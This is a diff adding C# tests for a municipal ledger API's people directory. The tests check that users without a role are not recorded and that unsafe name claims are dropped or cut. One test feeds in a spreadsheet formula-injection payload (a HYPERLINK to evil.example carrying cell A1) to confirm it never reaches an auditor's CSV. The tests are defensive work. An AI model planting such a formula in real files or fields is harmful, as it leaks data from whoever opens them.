@@ -214,6 +214,61 @@ public class PeopleDirectoryTests(LedgerApi api) : IClassFixture<LedgerApi>
         await (await api.Client().GetAsync("/api/v1/people")).ShouldBeAsync(HttpStatusCode.Unauthorized);
     }
 
+    [Fact]
+    public async Task A_person_without_a_ledger_role_is_not_recorded_in_the_directory()
+    {
+        // Signed in at the municipality's identity provider, but with no role here (a mayor, a colleague of another
+        // department): refused everywhere, never acts, so the directory keeps no name or e-mail address of theirs.
+        foreach (var role in new[] { "burgemeester", "Admin" })
+        {
+            var actor = NewPersonActor();
+            await SignInAsync(SignedIn(actor, "B. Burger", "b.burger@rijswijk.nl", Now(), role));
+            await (await api.Admin().GetAsync($"/api/v1/people/{actor}")).ShouldBeAsync(HttpStatusCode.NotFound);
+        }
+        (await ScalarAsync<long>("SELECT count(*) FROM people WHERE display_name = 'B. Burger' OR email = 'b.burger@rijswijk.nl'")).Should().Be(0);
+    }
+
+    [Fact]
+    public async Task A_name_claim_the_request_screens_would_refuse_is_not_kept_and_a_long_one_is_cut_on_a_character_boundary()
+    {
+        // A NUL (which PostgreSQL refuses in text) lost the whole directory write: the e-mail address and role too.
+        var nul = NewPersonActor();
+        await SignInAsync(SignedIn(nul, "K.\u0000 Visser", "k.visser@rijswijk.nl", Now()));
+        var visser = await PersonAsync(nul);
+        visser["displayName"].Should().BeNull();
+        (visser["email"]!.GetValue<string>(), visser["actsAs"]!.GetValue<string>()).Should().Be(("k.visser@rijswijk.nl", "WSP Rijswijk"));
+
+        // A bidi override (shows as another name), a line break and a lone surrogate are refused as a body's text is.
+        foreach (var name in new[] { "Jan \u202Eseirv ed", "M. de Vries\r\nBeheer", "A. \uD83D Smit" })
+        {
+            var actor = NewPersonActor();
+            await SignInAsync(SignedIn(actor, name, $"{actor[7..15]}@rijswijk.nl", Now()));
+            (await PersonAsync(actor))["displayName"].Should().BeNull(name);
+        }
+
+        // 10 kB cut at 200 characters, but never through an emoji's surrogate pair (199 + 2 would cross it).
+        var longName = NewPersonActor();
+        await SignInAsync(SignedIn(longName, new string('a', 199) + "\U0001F44D" + new string('b', 10_000), null, Now()));
+        (await PersonAsync(longName))["displayName"]!.GetValue<string>().Should().Be(new string('a', 199));
+
+        // A spreadsheet formula from the identity provider (a self-chosen profile name) never reaches the CSV an auditor
+        // opens in Excel: the CSV writes recorded values as they are, and a name from a token is not recorded.
+        var wsp = await api.ClientAsync("wsp");
+        var number = await wsp.RegisterAsync();
+        var url = $"/api/v1/candidates/{number}/history";
+        var stream = (await (await wsp.GetAsync(url)).ShouldBeAsync(HttpStatusCode.OK))["stream"]!.GetValue<string>();
+        var formula = NewPersonActor();
+        await SignInAsync(SignedIn(formula, "=HYPERLINK(\"https://evil.example/?\"&A1;\"M. de Vries\")", "@SUM(1+1)", Now()));
+        await api.Services.GetRequiredService<LedgerEvents>().AppendAsync(new AppendRequest(MunicipalityCode.Parse("GM0603"), new StreamId(stream), 1,
+            [new TredeChanged(2, 3, new LocalDate(2020, 5, 1), "Herbeoordeling")],
+            new EventMetadata(formula, "corr-formula", ActorRole: "wsp", ActorOrganisation: "GM0603")));
+        var person = await PersonAsync(formula);
+        (person["displayName"], person["email"]).Should().Be((null, null));
+        var csv = await CsvFile.GetAsync(await api.ClientAsync("auditor"), url);
+        (csv.Rows[1]["actor"], csv.Rows[1]["actor_naam"], csv.Rows[1]["actor_weergave"]).Should().Be((formula, "", "Persoon (WSP Rijswijk)"));
+        csv.Text.Should().NotContain("HYPERLINK");
+    }
+
     private async Task<JsonNode> PersonAsync(string actor) =>
         await (await api.Admin().GetAsync($"/api/v1/people/{actor}")).ShouldBeAsync(HttpStatusCode.OK);
 
